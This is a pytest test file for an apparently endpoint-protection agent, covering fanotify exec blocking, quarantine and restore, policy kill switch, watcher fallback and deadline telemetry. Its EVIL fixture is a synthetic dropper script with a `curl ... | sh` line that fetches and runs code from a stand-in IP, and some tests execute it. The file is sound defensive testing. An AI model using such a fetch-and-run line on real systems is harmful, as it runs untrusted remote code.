"""`fleetward-agent run --protect` end to end: signed policy, real fanotify, quarantine, kill -9."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner

from agent._clock import utc_now
from agent.cli import main as agent_cli
from agent.protect import fanotify as fan
from agent.protect.realtime import RealtimeOptions, protection_note, realtime_sources
from model_store.repository import init_repository, publish_model, publish_policy
from tests.tuf_harness import ORG, policy_bytes, serving

pytestmark = pytest.mark.skipif(not fan.is_available()[0], reason=fan.is_available()[1])

ROOT = Path(__file__).resolve().parents[3]
EVIL = b"#!/bin/sh\n# synthetic dropper\ncurl -s http://203.0.113.9/x | sh\nexit 0\n"
BENIGN = b"#!/bin/sh\necho hello\nexit 0\n"
EVIL_SHA = hashlib.sha256(EVIL).hexdigest()


def _policy(version: int, mode: str = "enforce") -> bytes:
    entry = {
        "sha256": EVIL_SHA,
        "reason": "test dropper",
        "created_at": "2026-01-01T00:00:00+00:00",
    }
    return policy_bytes(version, mode=mode, blocklist=[entry], breaker={"enabled": False})


def _exec(path: Path) -> int:
    try:
        return subprocess.run([str(path)], check=False, timeout=20, capture_output=True).returncode
    except PermissionError as exc:
        return -exc.errno


def _wait_for(predicate, timeout_s: float = 30.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not predicate():
        assert time.monotonic() < deadline, "condition not reached in time"
        time.sleep(0.05)


def _cli(*args: str) -> str:
    out = CliRunner().invoke(agent_cli, list(args))
    assert out.exit_code == 0, out.output
    return out.output


class AgentProc:
    def __init__(self, proc: subprocess.Popen[str], state: Path) -> None:
        self.proc = proc
        self.state = state
        self.lines: list[str] = []
        self.decisions: list[dict] = []
        assert proc.stderr is not None and proc.stdout is not None
        threading.Thread(target=self._pump, args=(proc.stderr, self.lines), daemon=True).start()
        threading.Thread(target=self._pump_json, args=(proc.stdout,), daemon=True).start()

    @staticmethod
    def _pump(stream, into: list[str]) -> None:
        for line in stream:
            into.append(line.strip())

    def _pump_json(self, stream) -> None:
        for line in stream:
            if line.startswith("{"):
                self.decisions.append(json.loads(line))

    def status(self) -> dict:
        out = CliRunner().invoke(agent_cli, ["status", "--state-dir", str(self.state), "--json"])
        return json.loads(out.output) if out.exit_code == 0 else {}

    def records(self) -> list[dict]:
        text = _cli("quarantine", "list", "--state-dir", str(self.state), "--json")
        return [json.loads(line) for line in text.splitlines() if line.startswith("{")]


@contextmanager
def running_agent(
    tmp: Path, bundles: dict[int, Path], protected: Path
) -> Iterator[tuple[AgentProc, Path]]:
    now = utc_now()
    repo = tmp / "repo"
    init_repository(repo, now=now)
    publish_model(repo, bundles[1], now=now)
    publish_policy(repo, _policy(1), now=now)
    state = tmp / "state"
    with serving(repo) as server:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "agent",
                "run",
                "--repo-url",
                server.url,
                "--org",
                ORG,
                "--state-dir",
                str(state),
                "--root",
                str(repo / "metadata" / "1.root.json"),
                "--interval",
                "0.2",
                "--protect",
                str(protected),
                "--json",
                "--deadline-ms",
                "5000",  # a loaded CI machine must not turn a deny into a deadline allow
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=ROOT,
            text=True,
        )
        agent = AgentProc(proc, state)
        try:
            # loaded in memory, not only installed on disk (status.json is saved after the load)
            _wait_for(lambda: agent.status().get("serving_model_version") == 1)
            _wait_for(lambda: agent.status().get("policy_version") == 1)
            _wait_for(lambda: any("real-time protection on" in line for line in agent.lines))
            yield agent, repo
        finally:
            if proc.poll() is None:
                proc.send_signal(signal.SIGKILL)
            proc.wait(10)
            for stream in (proc.stdout, proc.stderr):
                assert stream is not None
                stream.close()


def test_protected_exec_is_denied_quarantined_restored_and_free_after_kill_9(
    tmp_path: Path, bundles
) -> None:
    protected = tmp_path / "protected"
    protected.mkdir()
    evil = protected / "dropper.sh"
    evil.write_bytes(EVIL)
    evil.chmod(0o755)
    benign = protected / "hello.sh"
    benign.write_bytes(BENIGN)
    benign.chmod(0o755)
    with running_agent(tmp_path, bundles, protected) as (agent, _):
        assert _exec(evil) == -errno.EPERM
        assert _exec(benign) == 0
        _wait_for(lambda: len(agent.records()) == 1)
        [record] = agent.records()
        assert record["original_path"] == str(evil) and record["verdict"] == "blocklisted"
        assert not evil.exists()
        _wait_for(lambda: any(d.get("verdict") == "blocklisted" for d in agent.decisions))
        _cli("quarantine", "restore", record["id"], "--state-dir", str(agent.state))
        assert evil.read_bytes() == EVIL and (evil.stat().st_mode & 0o777) == 0o755
        agent.proc.send_signal(signal.SIGKILL)
        assert agent.proc.wait(10) == -signal.SIGKILL
        assert _exec(evil) == 0, "with the agent dead the kernel lets the exec through"


def test_kill_switch_from_signed_policy_lets_the_sample_run_and_reports_it(
    tmp_path: Path, bundles
) -> None:
    protected = tmp_path / "protected"
    protected.mkdir()
    evil = protected / "dropper.sh"
    evil.write_bytes(EVIL)
    evil.chmod(0o755)
    with running_agent(tmp_path, bundles, protected) as (agent, repo):
        publish_policy(repo, _policy(2, mode="off"), now=utc_now())
        _wait_for(lambda: agent.status().get("mode") == "off")
        assert "allows every exec" in agent.status()["protection"]
        assert _exec(evil) == 0 and evil.exists()
        _wait_for(lambda: any(d.get("reason") == "mode_off" for d in agent.decisions))
        assert agent.records() == []


def test_without_fanotify_it_says_so_once_and_watches_instead(tmp_path: Path, monkeypatch) -> None:
    class _Agent:  # only what realtime_sources reads when fanotify is refused
        class state:
            root = tmp_path

        clock = staticmethod(utc_now)
        already_decided = staticmethod(lambda path: False)

    lines: list[str] = []
    # fault injection: the platform answer a macOS or non-root agent would get
    monkeypatch.setattr(fan, "is_available", lambda: (False, "fanotify needs Linux (this is test)"))
    options = RealtimeOptions(protect=(str(tmp_path),))
    sources = realtime_sources(_Agent(), options, on_line=lines.append)  # type: ignore[arg-type]
    assert lines == [
        "real-time control is unavailable (fanotify needs Linux (this is test)): "
        "scanning and watching instead"
    ]
    assert [type(s).__name__ for s in sources] == ["Watcher"]
    assert sources[0].paths == (os.path.abspath(tmp_path),)  # type: ignore[attr-defined]


def test_status_note_says_detect_only_and_off_allow_everything() -> None:
    assert "allows every exec and open (mode detect_only)" in protection_note("detect_only")
    assert "allows every exec and open (mode off)" in protection_note("off")
    assert "denies" in protection_note("enforce")


@pytest.mark.filterwarnings("ignore:Callback with id:RuntimeWarning")
def test_watcher_and_periodic_scan_decide_a_dropped_file_once(tmp_path: Path, bundles) -> None:
    from agent.daemon import Agent, Daemon, DaemonConfig

    folder = tmp_path / "incoming"
    folder.mkdir()
    agent = Agent(tmp_path / "state", org=ORG, clock=utc_now)
    agent.start()
    decided: list[str] = []
    daemon = Daemon(
        agent,
        config=DaemonConfig(watch=(str(folder),), scan_interval_s=0.05),
        on_result=lambda r: decided.append(r.path),
        sources=realtime_sources(agent, RealtimeOptions(watch=(str(folder),))),
    )
    stop = threading.Event()
    runner = threading.Thread(target=daemon.run, args=(stop,))
    runner.start()
    try:
        time.sleep(0.3)  # the watcher's inotify watches are in place
        (folder / "new.bin").write_bytes(b"\x7fELF" + bytes(range(256)) * 16)
        _wait_for(lambda: decided, timeout_s=5)
        time.sleep(0.5)  # ten more polls of the folder
    finally:
        stop.set()
        runner.join(10)
    assert decided == [str(folder / "new.bin")]


def test_deadline_reaches_telemetry_as_an_error_with_reason_deadline(tmp_path: Path) -> None:
    from agent.daemon import Agent, DecisionEvent
    from agent.decision import Reason, Verdict
    from agent.protect.protector import ProtectConfig
    from agent.protect.realtime import ProtectSource

    folder = tmp_path / "protected"
    folder.mkdir()
    script = folder / "slow.sh"
    script.write_bytes(BENIGN)
    script.chmod(0o755)
    events: list[DecisionEvent] = []
    agent = Agent(tmp_path / "state", org=ORG, clock=utc_now, on_event=events.append)
    agent.start()
    source = ProtectSource(
        agent, (str(folder),), config=ProtectConfig(deadline_ms=50), quarantine=None
    )

    def slow_decide(path: str):  # a scorer far slower than the deadline
        time.sleep(0.5)
        return agent.scan_file(path, utc_now())

    stop = threading.Event()
    runner = threading.Thread(target=source.run, args=(slow_decide, stop))
    runner.start()
    try:
        _wait_for(lambda: source.protector is not None, timeout_s=5)
        started = time.monotonic()
        assert _exec(script) == 0
        assert time.monotonic() - started < 0.45, "the exec waited for the slow scorer"
        _wait_for(lambda: any(e.reason is Reason.DEADLINE for e in events), timeout_s=5)
    finally:
        stop.set()
        runner.join(10)
    [late] = [e for e in events if e.reason is Reason.DEADLINE]
    assert late.verdict is Verdict.ERROR and late.sha256 == hashlib.sha256(BENIGN).hexdigest()
    assert source.protector is not None and source.protector.stats.deadline == 1
